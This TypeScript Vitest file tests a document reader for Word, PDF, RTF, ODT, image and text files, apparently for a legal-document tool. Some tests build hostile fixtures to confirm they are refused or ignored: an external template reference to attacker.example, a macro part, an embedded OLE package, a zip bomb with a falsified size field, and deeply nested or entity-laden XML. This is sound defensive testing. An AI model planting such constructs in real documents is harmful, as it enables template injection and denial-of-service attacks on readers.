import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { openPackage } from '#server/office/package/open-package.ts'
import { decodePart, encodePart } from '#server/office/package/part-text.ts'
import { unzipPackage, zipPackage } from '#server/office/package/zip-package.ts'
import { p, rawDocx, table } from '#server/word/testing/raw-docx.ts'
import { sampleBrief } from '#server/word/testing/sample-documents.ts'
import { writeDocx } from '#server/word/write-docx.ts'
import { readDocument } from './read-document.ts'
import { compoundFile, formPdf, lockedPdf, pngHeader, smallOdt, smallPdf, smallRtf } from './testing/small-files.ts'

const brief = await writeDocx(sampleBrief(1))

function briefWith(changes: Readonly<Record<string, string>>): Uint8Array {
  const added = Object.entries(changes).map(([name, text]) => [name, encodePart(text)])
  return zipPackage({ ...unzipPackage(brief), ...Object.fromEntries(added) })
}

async function refusalOf(bytes: Uint8Array): Promise<{ code: string; message: string }> {
  return readDocument(bytes).then(
    ({ text }) => ({ code: 'none', message: text }),
    ({ code, message }: { code: string; message: string }) => ({ code, message }),
  )
}

test('a Word file gives its header, its numbered text, its tables and its notes, and where its headings are', async () => {
  const { kind, text, headings, warnings } = await readDocument(brief)
  expect(kind).toBe('docx')
  expect(text).toMatch(/^DETAINED\nAna Attorney, Esq\./)
  expect(text).toContain('\n1. She reported the first visit on the next morning.\n')
  expect(text).toContain('\na. he asked who had sent her;\n')
  expect(text).toContain('\nA\tDeclaration of the respondent\t1-9\n')
  expect(text).toContain('[footnote 1] See Ex.\u00a0A at 3; see also Ex.\u00a0B.')
  expect(headings.map(({ level }) => level)).toEqual([1, 2, 3])
  for (const { text: heading, offset } of headings) expect(text.startsWith(heading, offset)).toBe(true)
  expect(warnings).toEqual(['The comments in this file were left out.'])
})

test('tracked changes are read as accepted, and nothing outside of the file is loaded', async () => {
  const parts = unzipPackage(brief)
  const body = decodePart(parts['word/document.xml'] ?? new Uint8Array())
  const changed = body.replace(
    '</w:body>',
    '<w:p><w:del w:id="1"><w:r><w:delText>old</w:delText></w:r></w:del><w:ins w:id="2"><w:r><w:t>new words</w:t></w:r></w:ins></w:p></w:body>',
  )
  const relationships = decodePart(parts['word/_rels/document.xml.rels'] ?? new Uint8Array()).replace(
    '</Relationships>',
    '<Relationship Id="evil" Type="x/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
  )
  const file = briefWith({ 'word/document.xml': changed, 'word/_rels/document.xml.rels': relationships })
  const { text, warnings } = await readDocument(file)
  expect(text).toContain('\nnew words\n')
  expect(warnings).toContain('This file has tracked changes; it was read as if all of them were accepted.')
  expect(warnings).toContain('This file refers to content outside of it, which was not loaded.')
})

test('a PDF gives its lines, the place of each page, and larger lines as headings', async () => {
  const long = 'The applicant entered the United States without inspection.'
  const { kind, text, pages, headings, needsOcr } = await readDocument(
    smallPdf([
      ['# Declaration', long, long],
      [long, 'It ended (in 2019).'],
    ]),
  )
  expect(kind).toBe('pdf')
  expect(text).toBe(`Declaration\n${long}\n${long}\n${long}\nIt ended (in 2019).`)
  expect(pages).toEqual([
    { number: 1, offset: 0 },
    { number: 2, offset: 132 },
  ])
  expect(headings).toEqual([{ level: 1, text: 'Declaration', offset: 0 }])
  expect(needsOcr).toBe(false)
})

test('a PDF whose pages are pictures is said to need OCR', async () => {
  expect(await readDocument(smallPdf([[''], ['']]))).toMatchObject({
    text: '',
    needsOcr: true,
    warnings: ['This PDF is a scan; it needs OCR to be read.'],
  })
})

test('what was typed into the form of a PDF is read with the labels of its fields', async () => {
  const { text, needsOcr } = await readDocument(formPdf())
  expect(text).toBe('See the attached page.\nFamilyName: Example\nMarital status: married: x\nClass: B-2 visitor')
  expect(needsOcr).toBe(false)
})

test('a table inside a table is read once, and what is embedded is not opened', async () => {
  const body = table([[p('Outer'), table([[p('inner one'), p('inner two')]]) + p('')]])
  const parts = { ...unzipPackage(rawDocx(body)), 'word/embeddings/oleObject1.bin': compoundFile('Equation Native') }
  const { text } = await readDocument(zipPackage(parts))
  expect(text).toBe('Outer\tinner one inner two')
  const packaged = { ...parts, 'word/embeddings/oleObject1.bin': compoundFile('Ole10Native') }
  expect(await readDocument(zipPackage(packaged))).toMatchObject({
    text: 'Outer\tinner one inner two',
    warnings: ['Files that are embedded in this one were not opened.'],
  })
})

test('RTF, ODT and plain text in several encodings are read', async () => {
  expect(await readDocument(smallRtf())).toMatchObject({
    kind: 'rtf',
    text: 'DETAINED\nStatement\nShe entered on “March 3”, señor {sic}.\nПри\tbold kept\nnext See Ex. A.\nA\tB',
    headings: [{ level: 1, text: 'Statement', offset: 9 }],
  })
  expect(await readDocument(smallOdt())).toMatchObject({
    kind: 'odt',
    text: 'Statement\nShe entered  in 2019.\tEnd {See Ex. A.}\nA\tB',
    headings: [{ level: 2, text: 'Statement', offset: 0 }],
    warnings: ['This file has tracked changes; it was read as if all of them were accepted.'],
  })
  const words = 'Año nuevo – “quoted”'
  for (const bytes of [
    strToU8(`\uFEFF${words}`),
    Buffer.from(`\uFEFF${words}`, 'utf16le'),
    Buffer.from(words, 'utf16le'),
    Uint8Array.from([0x41, 0xf1, 0x6f, ...Buffer.from(' nuevo '), 0x96, 0x20, 0x93, ...Buffer.from('quoted'), 0x94]),
  ])
    expect(await readDocument(Uint8Array.from(bytes))).toMatchObject({ kind: 'text', text: words })
})

test('notes, boxes, headers and footers of RTF and ODT are read, however their program marks them', async () => {
  const rtf = String.raw`{\rtf1\ansi{\header\pard In re Ana Example\par}{\*\generator LibreOffice}\pard She came{\super\chftn{\*\footnote\chftn\pard See Tab C.}} in May.{\shp{\*\shpinst{\sp{\sn x}{\sv 7}}{\shptxt\pard Rush\par}}}\par}`
  expect(await readDocument(strToU8(rtf))).toMatchObject({
    text: 'In re Ana Example\nShe came See Tab C. in May.\nRush',
  })
  const names =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
  const page = `<style:master-page><style:header><text:p>In re Ana</text:p></style:header><style:footer><text:p>Page</text:p></style:footer></style:master-page>`
  const odt = zipSync({
    mimetype: strToU8('application/vnd.oasis.opendocument.text'),
    'content.xml': strToU8(
      `<office:document-content ${names}><office:body><office:text><text:p>She came.</text:p></office:text></office:body></office:document-content>`,
    ),
    'styles.xml': strToU8(
      `<office:document-styles ${names}><office:master-styles>${page}${page}</office:master-styles></office:document-styles>`,
    ),
  })
  expect(await readDocument(odt)).toMatchObject({ text: 'In re Ana\nPage\nShe came.' })
})

test('an image is known by its header and waits for OCR; one that is too large is refused unseen', async () => {
  expect(await readDocument(pngHeader(2550, 3300))).toMatchObject({ kind: 'image', text: '', needsOcr: true })
  expect(await refusalOf(pngHeader(30_000, 30_000))).toEqual({
    code: 'image-too-large',
    message: 'This image is too large. At most 12,000 pixels on each side and 50 million in all can be read.',
  })
})

test('a file is read from its path as well, whatever its name says', async () => {
  const path = join(mkdtempSync(join(tmpdir(), 'reading-')), 'letter.pdf')
  writeFileSync(path, smallRtf())
  expect(await readDocument(path)).toMatchObject({ kind: 'rtf' })
})

test('every file that cannot be read is refused with the sentence that fits it', async () => {
  const spaces = new Uint8Array(61_000_000).fill(32)
  const codes: Record<string, Uint8Array> = {
    empty: new Uint8Array(),
    'unpacks-too-large': zipSync({ 'word/document.xml': spaces }, { level: 9 }),
    damaged: brief.subarray(0, brief.length / 2),
    encrypted: compoundFile('EncryptedPackage'),
    'other-office': compoundFile('Workbook'),
    macros: briefWith({ 'word/vbaProject.bin': 'x' }),
    unsupported: Uint8Array.from({ length: 5000 }, (_, index) => (index * 7919) % 256),
    'no-text': strToU8(' \n '),
  }
  const found: Record<string, string> = {}
  for (const [code, bytes] of Object.entries(codes)) found[code] = (await refusalOf(bytes)).code
  expect(found).toEqual(Object.fromEntries(Object.keys(codes).map((code) => [code, code])))
  expect(await refusalOf(lockedPdf())).toEqual({
    code: 'encrypted',
    message: 'This file is protected by a password. Remove the password and upload it again.',
  })
  expect(await refusalOf(new Uint8Array(25_000_001))).toMatchObject({ code: 'too-large' })
  expect(await refusalOf(strToU8('%PDF-1.4 and then nothing'))).toMatchObject({ code: 'damaged' })
  expect(await refusalOf(smallPdf(Array.from({ length: 1001 }, () => ['x'])))).toMatchObject({ code: 'too-many-pages' })
})

test('a Word file that expands in the parser is stopped, and the next one is read', async () => {
  const deep = briefWith({
    'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${'<w:p>'.repeat(400_000)}`,
  })
  expect((await refusalOf(deep)).code).toMatch(/^(damaged|too-complex)$/)
  const entities = briefWith({ 'word/document.xml': '<!DOCTYPE w [<!ENTITY a "aaaa">]><w:document>&a;</w:document>' })
  expect(await refusalOf(entities)).toMatchObject({ code: 'damaged' })
  const long = await writeDocx(sampleBrief(80))
  await expect(readDocument(long, { milliseconds: 5 })).rejects.toMatchObject({ code: 'took-too-long' })
  expect((await readDocument(brief)).kind).toBe('docx')
})

test('a zip that lies about its size gets no more memory than it declared', async () => {
  const bomb = zipSync({ 'word/document.xml': new Uint8Array(40_000_000).fill(32) }, { level: 9 })
  const directoryEntry = bomb.length - 'word/document.xml'.length - 46 - 22
  new DataView(bomb.buffer).setUint32(directoryEntry + 24, 1000, true)
  expect(openPackage(bomb)['word/document.xml']?.length).toBe(1000)
  expect(await refusalOf(bomb)).toMatchObject({ code: 'unsupported' })
})
